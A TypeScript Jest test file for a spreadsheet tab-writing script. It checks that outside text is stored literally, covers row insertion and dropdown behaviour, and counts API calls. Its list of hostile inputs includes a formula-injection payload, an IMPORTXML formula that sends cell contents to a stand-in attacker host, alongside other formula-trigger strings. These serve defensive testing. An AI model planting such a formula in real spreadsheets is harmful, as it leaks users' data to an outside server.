import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import type { Cell, WrittenCell } from '../../src/tabs/cell';
import type { Block, TabChange } from '../../src/tabs/change';
import { InWorkbook } from './support/in-script';
import { switchSettings } from './support/switch-settings';
import { TAB_SCRIPT } from './support/tab-script';

const TEXT = { format: '@', checkbox: false };

const changeOf = (change: Partial<TabChange>): TabChange => ({
  removed: [],
  inserted: [],
  blocks: [],
  ...change,
});

const block = (cells: readonly (readonly WrittenCell[])[], fields: Partial<Block> = {}): Block => ({
  row: 1,
  column: 1,
  shapes: (cells[0] ?? []).map(() => TEXT),
  cells,
  dropdowns: [],
  ...fields,
});

/** A workbook with a tab `T` of the given cells. */
function bookOf(cells: readonly (readonly WrittenCell[])[], parts: object = {}): InWorkbook {
  const book = new InWorkbook(TAB_SCRIPT, parts);
  book.call('add', 'T');
  if (cells.length > 0) book.call('change', 'T', changeOf({ blocks: [block(cells)] }));
  return book;
}

const HOSTILE = [
  '=IMPORTXML("https://evil.example/?"&A2,"//a")',
  '=1+1',
  '+1',
  '-1+2',
  '@x',
  '01234',
  '1-2',
  '1/2',
  '3e5',
  '1,000.50',
  '$2.99',
  '12%',
  'TRUE',
  '2026-03-01',
  '10:30',
  '22 34',
  "'quoted",
  "''twice",
  ' =1',
  '\t=1',
  '\n=1',
  '\u200b=1',
  '\ufeff=1',
  '＝1',
  '=',
  "'",
  '#REF!',
  'é€\u{1F9FE}',
  '',
];

describe.each(switchSettings)('text from outside, %s', (_, switches) => {
  test('comes back unchanged, and no cell has a formula', () => {
    const book = bookOf([['Name', 'Note']], { switches });
    const cells = HOSTILE.map((text) => [text, `x${text}`]);
    book.call('change', 'T', changeOf({ blocks: [block(cells, { row: 2 })] }));
    expect(book.call<Cell[][]>('read', 'T').slice(1)).toEqual(cells);
    const formulas = book.call<string[][]>('ask', 'T', 'A1:B40', 'getFormulas');
    expect(formulas.flat().filter((formula) => formula !== '')).toEqual([]);
    const formats = book.call<string[][]>(
      'ask',
      'T',
      `A2:B${HOSTILE.length + 1}`,
      'getNumberFormats',
    );
    expect(new Set(formats.flat())).toEqual(new Set(['@']));
  });

  test('stays as it is when it is written a second time', () => {
    const book = bookOf(
      HOSTILE.map((text) => [text]),
      { switches },
    );
    book.call('change', 'T', changeOf({ blocks: [block(HOSTILE.map((text) => [text]))] }));
    const read = book.call<Cell[][]>('read', 'T').map(([cell]) => cell);
    expect([...read, '']).toEqual(HOSTILE);
  });
});

test('any text is written and read back equal', () => {
  const book = bookOf([['Name']]);
  const text = fc.string({ unit: 'grapheme', minLength: 1, maxLength: 40 });
  fc.assert(
    fc.property(fc.array(text, { minLength: 1, maxLength: 30 }), (texts) => {
      const cells = texts.map((one) => [one]);
      const read = book.call<Cell[][]>(
        'changeAndRead',
        'T',
        changeOf({ blocks: [block(cells, { row: 2 })] }),
      );
      expect(read.slice(1, texts.length + 1)).toEqual(cells);
    }),
    { numRuns: 40 },
  );
});

test('a text that no cell can hold is cut, and stops no other row', () => {
  const read = bookOf([['a'.repeat(60_000)], ['fine']]).call<string[][]>('read', 'T');
  expect(read[0]?.[0]).toHaveLength(49_999);
  expect(read[1]).toEqual(['fine']);
});

test('an exact figure that no float holds stays what it is under a number format', () => {
  const shapes = [{ format: '#,##0.00######', checkbox: false }];
  const cells = [['0.12345678901234567890'], [1234.5], ['']];
  const book = bookOf([]);
  book.call('change', 'T', changeOf({ blocks: [block(cells, { shapes })] }));
  expect(book.call<Cell[][]>('read', 'T')).toEqual(cells.slice(0, 2));
  expect(book.call('ask', 'T', 'A2', 'getDisplayValue')).toBe('1,234.50');
});

describe('rows', () => {
  const numbered = (count: number) =>
    Array.from({ length: count }, (_, index) => [`r${index + 1}`]);
  const column = (book: InWorkbook) => book.call<Cell[][]>('read', 'T').map(([cell]) => cell);

  test('are removed and inserted where the change says, with all that stands in them', () => {
    const book = bookOf(numbered(8));
    book.call('type', 'T', 'C6', 'my note');
    const change = changeOf({
      removed: [3, 4, 7],
      inserted: [
        { below: 4, count: 1 },
        { below: 1, count: 2 },
      ],
      blocks: [block([['n1'], ['n2']], { row: 2 }), block([['n3']], { row: 7 })],
    });
    book.call('change', 'T', change);
    expect(column(book)).toEqual(['r1', 'n1', 'n2', 'r2', 'r5', 'r6', 'n3', 'r8']);
    expect(book.call('ask', 'T', 'C6', 'getValue')).toBe('my note');
  });

  test('can all be removed from a sheet that has no other', () => {
    const book = bookOf(numbered(4));
    book.call('trim', 'T', 4, 1);
    book.call('change', 'T', changeOf({ removed: [2, 3, 4] }));
    expect(column(book)).toEqual(['r1']);
  });

  test('grow the sheet where it is too small, in both directions', () => {
    const book = bookOf([['H']]);
    book.call('trim', 'T', 2, 1);
    book.call(
      'change',
      'T',
      changeOf({
        blocks: [
          block(
            [
              ['a', 'b'],
              ['c', 'd'],
            ],
            { row: 2 },
          ),
        ],
      }),
    );
    expect(book.call<Cell[][]>('read', 'T')).toEqual([
      ['H', ''],
      ['a', 'b'],
      ['c', 'd'],
    ]);
  });

  test('below the header look like rows, not like the header', () => {
    const book = bookOf(numbered(3));
    book.call('ask', 'T', 'A1', 'getBackground');
    book.call('paint', 'T', 'A1:A1', '#ff0000');
    book.call(
      'change',
      'T',
      changeOf({ inserted: [{ below: 1, count: 1 }], blocks: [block([['n']], { row: 2 })] }),
    );
    expect(book.call('ask', 'T', 'A2', 'getBackground')).toBe('#ffffff');
  });
});

describe('choices', () => {
  test('boxes to tick and dropdowns stand in the cells that are new', () => {
    const book = bookOf([['Name', 'Kind', 'Tick']]);
    book.call('add', 'Items');
    book.call(
      'change',
      'Items',
      changeOf({
        blocks: [
          block([
            ['ID', 'Item'],
            ['1', 'Design'],
            ['2', 'Travel'],
          ]),
        ],
      }),
    );
    const shapes = [TEXT, TEXT, { format: 'General', checkbox: true }];
    const dropdowns = [
      { row: 2, column: 2, rows: 1, choices: { words: ['yes', 'no'] } },
      { row: 3, column: 2, rows: 2, choices: { tab: 'Items', header: 'Item' } },
      { row: 5, column: 2, rows: 1, choices: { tab: 'Nowhere', header: 'Item' } },
    ];
    const cells = ['a', 'b', 'c', 'd'].map((name, index) => [name, '', index === 1]);
    book.call('change', 'T', changeOf({ blocks: [block(cells, { row: 2, shapes, dropdowns })] }));
    expect(
      book
        .call<Cell[][]>('read', 'T')
        .slice(1)
        .map((row) => row[2]),
    ).toEqual([false, true, false, false]);
    expect(book.call('rule', 'T', 'C3')).toMatchObject({ type: 'CHECKBOX' });
    expect(book.call('rule', 'T', 'B2')).toMatchObject({
      type: 'VALUE_IN_LIST',
      values: [['yes', 'no'], true],
      invalid: false,
    });
    expect(book.call('rule', 'T', 'B4')).toMatchObject({
      type: 'VALUE_IN_RANGE',
      values: ['Items!B2:B1000', true],
      invalid: true,
    });
    expect(book.call('rule', 'T', 'B5')).toBeNull();
  });
});

test('an inserted row does not take over the dropdown of its neighbour', () => {
  const book = bookOf([['Name'], ['a'], ['b']]);
  const words = { words: ['yes', 'no'] };
  const dropdowns = [2, 3].map((row) => ({ row, column: 1, rows: 1, choices: words }));
  book.call('change', 'T', changeOf({ blocks: [block([['yes'], ['no']], { row: 2, dropdowns })] }));
  const inserted = [
    { below: 2, count: 1 },
    { below: 1, count: 2 },
  ];
  const blocks = [block([['x'], ['y']], { row: 2 }), block([['z']], { row: 5 })];
  book.call('change', 'T', changeOf({ inserted, blocks }));
  const column = book.call<Cell[][]>('read', 'T').map(([cell]) => cell);
  expect(column).toEqual(['Name', 'x', 'y', 'yes', 'z', 'no']);
  const offered = [2, 3, 4, 5, 6].map((row) => book.call('rule', 'T', `A${row}`) !== null);
  expect(offered).toEqual([false, false, true, false, true]);
});

describe('the cost', () => {
  const big = Array.from({ length: 400 }, (_, index) =>
    Array.from({ length: 30 }, () => `=${index}`),
  );

  test.each([
    ['of harmless text', [['plain']], 7],
    ['of hostile text', [['=1']], 8],
    ['of four hundred rows of thirty columns', big, 9],
  ])('%s is a few calls, whatever the size', (_, cells, most) => {
    const book = bookOf([['H']]);
    const calls = book.callsOf('change', 'T', changeOf({ blocks: [block(cells, { row: 2 })] }));
    expect(calls.length).toBeLessThanOrEqual(most + 6);
    expect(calls.filter((call) => /Range\.set/.test(call)).length).toBeLessThanOrEqual(3);
    expect(calls[calls.length - 1]).toBe('SpreadsheetApp.flush');
  });

  test('of reading is one look at the values and one at the formulas', () => {
    const book = bookOf(big.map((row) => row.map((cell) => `x${cell}`)));
    expect(book.callsOf('read', 'T').filter((call) => call.startsWith('Range.'))).toEqual([
      'Range.getValues',
      'Range.getFormulas',
    ]);
  });
});

test.each(switchSettings)(
  'a write that the sheet refuses is refused there and then, %s',
  (_, switches) => {
    const book = bookOf([['H']], { switches });
    book.call('forbid', 'T');
    const outcome = book.run('change', ['T', changeOf({ blocks: [block([['x']])] })], {
      user: 'ben@example.com',
    });
    expect(outcome).toMatchObject({
      kind: 'failed',
      message: expect.stringMatching(/pr.t.ct.d/), // in any language
    });
  },
);

test('a tab that is gone is named', () => {
  const outcome = new InWorkbook(TAB_SCRIPT).run('change', ['T', changeOf({})]);
  expect(outcome).toMatchObject({
    message: "The workbook has lost its tab 'T'. Run the step again.",
  });
});
